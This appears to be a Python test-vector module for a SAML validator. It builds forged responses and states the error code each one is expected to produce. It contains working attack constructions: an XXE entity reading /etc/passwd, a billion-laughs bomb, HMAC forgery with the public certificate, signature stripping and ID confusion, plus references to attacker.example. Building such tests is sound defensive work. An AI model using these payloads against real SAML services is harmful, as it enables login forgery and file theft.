"""Answers that somebody has forged or bent. Each `why` names the attack; the verdict is a code, and never "ok".

Signature wrapping has a file of its own.
"""

import base64
import copy
import hmac
from dataclasses import replace
from typing import Any

from lxml import etree

from tests.vectors.accepted import OKTA
from tests.vectors.message import (
    DS,
    EXCLUSIVE,
    SAML,
    SAMLP,
    SUCCESS,
    Confirmation,
    Message,
    Signing,
    canonical,
    certificate_text,
    fill_in,
    sign,
    signed,
)
from tests.vectors.vector import Vector, document
from tests.vectors.wrapping import FORGED, assertion_of, evil_assertion, signature_of, wrapping

_TRANSFORMS = (f'<ds:Transform Algorithm="{DS}enveloped-signature"/>', f'<ds:Transform Algorithm="{EXCLUSIVE}"/>')


def attacks() -> list[Vector]:
    """Every vector of `attacks/`."""
    return [
        *wrapping(),
        *_bent_signatures(),
        *_algorithms_and_keys(),
        *_ids(),
        *_xml(),
        *_unsigned_parts(),
        *_floods(),
    ]


def _bad(name: str, code: str, why: str, tree: Any, **given: Any) -> Vector:
    return Vector(path=f"attacks/{name}", why=why, expect=f"saml.{code}", document=document(tree), **given)


def _signed_with(change: Any, *, message: Message = OKTA) -> etree._Element:
    """Signed, then SignedInfo changed, then signed again over what it says now: only its shape is wrong."""
    root = message.tree()
    signature = sign(assertion_of(root), how=Signing())
    change(signature)
    fill_in(signature, how=Signing())
    return root


def _bent_signatures() -> list[Vector]:
    def second_reference(signature: etree._Element) -> None:
        info = signature[0]
        info.append(copy.deepcopy(info[2]))

    def no_reference(signature: etree._Element) -> None:
        signature[0].remove(signature[0][2])

    def comment_in_digest(signature: etree._Element) -> None:
        value = signature[0][2][2]
        text = value.text or ""
        value.text = None
        comment = etree.Comment("Zm9yZ2Vk")
        comment.tail = text
        value.append(comment)

    two_infos = signed(OKTA.tree(), "Assertion")
    signature = signature_of(assertion_of(two_infos))
    signature.insert(1, copy.deepcopy(signature[0]))
    with_object = signed(OKTA.tree(), "Assertion")
    etree.SubElement(signature_of(assertion_of(with_object)), f"{{{DS}}}Object").text = "anything"
    xslt = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>'
    xpath = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor::x)</ds:XPath></ds:Transform>'
    to_text = f'<ds:Transform Algorithm="{DS}base64"/>'
    many = _TRANSFORMS + _TRANSFORMS[1:] * 40

    def transformed(*transforms: str) -> etree._Element:
        return signed(OKTA.tree(), "Assertion", how=Signing(transforms=transforms))

    status = OKTA.tree()
    covered = status.find(f"{{{SAMLP}}}Status")
    if covered is None:
        raise LookupError("Status")
    covered.set("ID", "_status")
    how = Signing(uri="#_status")
    assertion_of(status).insert(1, sign(covered, how=how))
    external = signed(OKTA.tree(), "Assertion", how=Signing(uri="http://attacker.example/assertion.xml"))
    xpointer = signed(OKTA.tree(), "Assertion", how=Signing(uri=f"#xpointer(id('{OKTA.assertion_id}'))"))
    cross = OKTA.tree()
    assertion_of(cross).insert(1, sign(cross, how=Signing()))
    replayed_digest = signed(FORGED.tree(), "Assertion", how=Signing(key="stranger", carries="idp"))
    comment = document(signed(OKTA.tree(), "Assertion")).replace(
        b"<ds:SignatureValue>", b"<ds:SignatureValue><!-- -->", 1
    )
    return [
        _bad(
            "two-references",
            "signature_structure",
            "A second Reference, to cover something badly.",
            _signed_with(second_reference),
            facts={"part": "Reference"},
        ),
        _bad(
            "no-reference",
            "signature_structure",
            "A signature over nothing.",
            _signed_with(no_reference),
            facts={"part": "Reference"},
        ),
        _bad(
            "comment-in-digest",
            "signature_structure",
            "A comment in DigestValue holds another digest (CVE-2025-29775).",
            _signed_with(comment_in_digest),
            facts={"part": "DigestValue"},
        ),
        _bad(
            "comment-in-signature-value",
            "signature_structure",
            "A comment in SignatureValue.",
            comment,
            facts={"part": "SignatureValue"},
        ),
        _bad(
            "two-signed-infos",
            "signature_structure",
            "One SignedInfo to verify, one to read (CVE-2025-29774).",
            two_infos,
            facts={"part": "SignedInfo"},
        ),
        _bad(
            "object-in-signature",
            "signature_structure",
            "ds:Object, the hiding place of XSW 7 and 8.",
            with_object,
            facts={"part": "Object"},
        ),
        _bad(
            "transform-xslt",
            "signature_structure",
            "An XSLT transform: code of the sender's choice.",
            transformed(_TRANSFORMS[0], xslt),
            facts={"part": "Transform"},
        ),
        _bad(
            "transform-xpath",
            "signature_structure",
            "An XPath transform: what is digested is the sender's choice.",
            transformed(_TRANSFORMS[0], xpath),
            facts={"part": "Transform"},
        ),
        _bad(
            "transform-base64",
            "signature_structure",
            "A base64 transform: only the text is digested.",
            transformed(_TRANSFORMS[0], to_text),
        ),
        _bad(
            "transforms-many",
            "signature_structure",
            "Forty transforms.",
            transformed(*many),
            facts={"part": "Transforms"},
        ),
        _bad(
            "transform-first-is-c14n",
            "signature_structure",
            "The order of transforms reversed.",
            transformed(*_TRANSFORMS[::-1]),
        ),
        _bad(
            "signature-over-status",
            "signature_reference",
            "A good signature over the Status, put into the assertion.",
            status,
            facts={"received": "#_status"},
        ),
        _bad(
            "signature-of-response-in-assertion",
            "signature_reference",
            "The Response's signature moved into the assertion.",
            cross,
        ),
        _bad("reference-external", "signature_reference", "A Reference to a URL: the server would fetch it.", external),
        _bad("reference-xpointer", "signature_reference", "A Reference by XPointer.", xpointer),
        _bad(
            "key-info-claims-pinned",
            "signature_wrong",
            "Signed by a stranger, with the pinned certificate in KeyInfo.",
            replayed_digest,
        ),
        _bad(
            "changed-name-id",
            "signature_wrong",
            "The NameID was changed after signing.",
            document(signed(OKTA.tree(), "Assertion", "Response")).replace(
                b">dana.whitfield@", b">mallory.xxxxxxx@", 1
            ),
        ),
        _bad(
            "changed-attribute-case",
            "signature_wrong",
            "The name of an attribute was changed after signing.",
            document(signed(OKTA.tree(), "Response")).replace(b'Name="groups"', b'Name="Groups"', 1),
        ),
    ]


def _algorithms_and_keys() -> list[Vector]:
    def by(method: str) -> etree._Element:
        return signed(FORGED.tree(), "Assertion", how=Signing(key="stranger", method=method))

    confused = FORGED.tree()
    signature = sign(assertion_of(confused), how=Signing(method=DS + "hmac-sha1"))
    value = signature.find(f"{{{DS}}}SignatureValue")
    if value is None:
        raise LookupError("SignatureValue")
    value.text = _hmac_with_the_certificate(signature)
    wrong_family = signed(
        OKTA.tree(), "Assertion", how=Signing(method="http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256")
    )
    return [
        _bad(
            "key-in-key-info",
            "certificate_unknown",
            "The attacker's own key and certificate in KeyInfo.",
            signed(FORGED.tree(), "Assertion", "Response", how=Signing(key="stranger")),
        ),
        _bad(
            "hmac-with-public-key",
            "algorithm_refused",
            "HMAC with the public certificate as its secret (CVE-2021-21239).",
            confused,
            facts={"algorithm": "HMAC"},
        ),
        _bad(
            "hmac-sha256",
            "algorithm_refused",
            "HMAC-SHA256.",
            by("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
            facts={"algorithm": "HMAC"},
        ),
        _bad(
            "rsa-md5",
            "algorithm_refused",
            "MD5.",
            by("http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
            facts={"algorithm": "MD5"},
        ),
        _bad(
            "algorithm-unknown-uri",
            "algorithm_refused",
            "A URI that a lenient comparison takes for SHA-1.",
            by("http://www.w3.org/2001/04/xmldsig-more#rsa-sha1"),
            facts={"algorithm": "SHA-1"},
        ),
        _bad("algorithm-none", "algorithm_refused", "No algorithm.", by("none"), facts={"algorithm": "none"}),
        _bad("algorithm-of-another-key", "signature_wrong", "ECDSA named over an RSA signature.", wrong_family),
        _bad(
            "other-tenants-key",
            "certificate_unknown",
            "Another customer's key of the same vendor, for this connection.",
            signed(OKTA.tree(), "Assertion", how=Signing(key="idp-next")),
        ),
    ]


def _hmac_with_the_certificate(signature: etree._Element) -> str:

    octets = canonical(signature[0], c14n=EXCLUSIVE, prefixes="")
    secret = base64.b64decode(certificate_text("idp"))
    return base64.b64encode(hmac.new(secret, octets, "sha1").digest()).decode()


def _ids() -> list[Vector]:
    good = document(signed(OKTA.tree(), "Assertion")).decode()
    marker = f'ID="{OKTA.assertion_id}"'
    same = good.replace(f'ID="{OKTA.response_id}"', marker, 1)
    return [
        _bad(
            "duplicate-id",
            "duplicate_id",
            "Response and assertion have the same ID.",
            same,
            facts={"received": OKTA.assertion_id},
        ),
        _bad(
            "id-in-a-namespace",
            "id_ambiguous",
            "samlp:ID beside ID (attribute pollution, The Fragile Lock, 2025).",
            good.replace(marker, f'{marker} saml2p:ID="_evil"', 1),
            facts={"element": "Assertion"},
        ),
        _bad(
            "id-lower-case",
            "id_ambiguous",
            "id beside ID.",
            good.replace(marker, f'{marker} id="_evil"', 1),
            facts={"attribute": "id"},
        ),
        _bad(
            "id-mixed-case",
            "id_ambiguous",
            "Id on an assertion.",
            good.replace(marker, f'{marker} Id="_evil"', 1),
            facts={"attribute": "Id"},
        ),
        _bad("id-xml", "id_ambiguous", "xml:id beside ID.", good.replace(marker, f'{marker} xml:id="_evil"', 1)),
        _bad(
            "id-of-saml-1",
            "id_ambiguous",
            "AssertionID, as SAML 1.1 had it.",
            good.replace(marker, f'{marker} AssertionID="_evil"', 1),
        ),
        _bad(
            "id-empty",
            "signature_reference",
            "An empty ID, and a Reference to it.",
            signed(replace(OKTA, assertion_id="").tree(), "Assertion"),
            facts={"received": "#"},
        ),
    ]


def _xml() -> list[Vector]:
    good = document(signed(OKTA.tree(), "Assertion")).decode()
    bomb = f'<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "{"&a;" * 10}"><!ENTITY c "{"&b;" * 10}">]>'
    xxe = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    relative = good.replace(f'ID="{OKTA.assertion_id}"', f'xmlns:x="relative" ID="{OKTA.assertion_id}"', 1)
    return [
        _bad("doctype-bomb", "doctype", "Billion laughs.", bomb + good.replace("IT Operations", "&c;", 1)),
        _bad(
            "doctype-file",
            "doctype",
            "An external entity that reads a file (CVE-2016-10127).",
            xxe + good.replace("IT Operations", "&x;", 1),
        ),
        _bad("doctype-empty", "doctype", "A document type without anything in it.", "<!DOCTYPE r>" + good),
        _bad(
            "doctype-utf-16",
            "doctype",
            "The same in UTF-16, where a look at ASCII misses it.",
            ('<?xml version="1.0" encoding="UTF-16"?>' + xxe + good).encode("utf-16"),
        ),
        _bad(
            "encoding-utf-7",
            "not_xml",
            "UTF-7: letters that are none in ASCII.",
            b'<?xml version="1.0" encoding="UTF-7"?>' + good.encode(),
        ),
        _bad(
            "encoding-ebcdic",
            "xml_feature_refused",
            "An encoding in which every filter reads something else.",
            ('<?xml version="1.0" encoding="windows-1252"?>' + good).encode("cp1252"),
            facts={"feature": "encoding"},
        ),
        _bad(
            "relative-namespace",
            "xml_feature_refused",
            "A relative namespace: canonicalization has no result (The Fragile Lock, CVE-2025-66475).",
            relative,
            facts={"feature": "relative namespace"},
        ),
        _bad(
            "processing-instruction",
            "xml_feature_refused",
            "A processing instruction inside NameID.",
            good.replace("dana.whitfield@", "dana<?x?>.whitfield@", 1),
            facts={"feature": "processing instruction", "received": "x"},
        ),
        _bad(
            "processing-instruction-in-front",
            "xml_feature_refused",
            "A stylesheet in front of the Response.",
            '<?xml-stylesheet href="http://attacker.example/x.xsl"?>' + good,
        ),
        _bad(
            "namespace-confusion",
            "assertion_count",
            "Elements of the right names in another namespace.",
            good.replace(SAML, "urn:oasis:names:tc:SAML:2.0:assertiom"),
        ),
        _bad(
            "element-in-no-namespace",
            "not_a_response",
            "A Response in no namespace... and so no answer.",
            good.replace("saml2p:Response", "Responce"),
            facts={"received": "Responce"},
        ),
    ]


def _unsigned_parts() -> list[Vector]:
    """What an unsigned Response says around a signed assertion can forbid, and never grants."""
    elsewhere = (Confirmation(in_response_to="_victims"),)
    stolen = signed(replace(OKTA, confirmations=elsewhere).tree(), "Assertion")
    stripped = signed(OKTA.tree(), "Assertion", "Response")
    stripped.remove(signature_of(stripped))
    bad_outer = signed(OKTA.tree(), "Assertion", "Response")
    bad_outer.set("InResponseTo", "_other")
    bad_inner = signed(OKTA.tree(), "Assertion")
    assertion_of(bad_inner).set("IssueInstant", "2026-03-03T09:41:52Z")
    sign(bad_inner, how=Signing())
    unsigned = signed(OKTA.tree(), "Assertion")
    unsigned.replace(assertion_of(unsigned), evil_assertion())
    error = OKTA.tree()
    error.remove(assertion_of(error))
    signed(error, "Response")
    error.append(evil_assertion())
    nothing = signed(OKTA.tree(), "Assertion")
    assertion_of(nothing).remove(signature_of(assertion_of(nothing)))
    two_success = document(signed(OKTA.tree(), "Assertion")).decode().replace(SUCCESS, SUCCESS + SUCCESS, 1)
    return [
        _bad(
            "stolen-assertion",
            "request_mismatch",
            "Another person's assertion in a Response that answers our request (CVE-2026-49284).",
            stolen,
            facts={"element": "Assertion", "received": "_victims"},
        ),
        _bad("signature-stripped", "signature_missing", "The signature is taken out (CVE-2020-12676).", nothing),
        _bad("signed-one-replaced", "signature_missing", "The signed assertion replaced by an unsigned one.", unsigned),
        _bad(
            "bad-outer-signature",
            "signature_wrong",
            "A good assertion in a Response changed after signing.",
            bad_outer,
            facts={"element": "Response"},
        ),
        _bad(
            "bad-inner-signature",
            "signature_wrong",
            "A bad signature on the assertion is not outweighed by a good one on the Response.",
            bad_inner,
            facts={"element": "Assertion"},
        ),
        _bad(
            "assertion-added-after-signing",
            "signature_wrong",
            "A forged assertion added to a signed Response without one.",
            error,
            facts={"element": "Response"},
        ),
        _bad(
            "two-statuses",
            "structure_refused",
            "Two Status elements, one to check and one to read.",
            two_success,
            facts={"element": "Status", "problem": "repeated"},
        ),
        _bad(
            "outer-stripped-inner-good",
            "response_expired",
            "The outer signature taken out, long after.",
            stripped,
            now="2026-03-03T11:00:00Z",
        ),
    ]


def _floods() -> list[Vector]:
    good = document(signed(OKTA.tree(), "Assertion")).decode()

    def with_extension(inside: str) -> str:
        return good.replace(SUCCESS, f"<saml2p:Extensions>{inside}</saml2p:Extensions>{SUCCESS}", 1)

    many_names = "".join(f' a{number}="x"' for number in range(100))
    prefixes = " ".join(f"p{number}" for number in range(100))
    return [
        _bad(
            "flood-depth",
            "too_complex",
            "Two hundred levels of elements.",
            with_extension("<a>" * 200 + "</a>" * 200),
            facts={"what": "depth"},
        ),
        _bad(
            "flood-elements",
            "too_complex",
            "Twelve thousand elements.",
            with_extension("<a/>" * 12_000),
            facts={"what": "elements"},
        ),
        _bad(
            "flood-attributes",
            "too_complex",
            "A hundred attributes on one element.",
            with_extension(f"<a{many_names}/>"),
            facts={"what": "attributes"},
        ),
        _bad(
            "flood-prefixes",
            "too_complex",
            "A PrefixList of a hundred prefixes.",
            signed(OKTA.tree(), "Assertion", how=Signing(prefixes=prefixes)),
            facts={"what": "prefixes"},
        ),
    ]
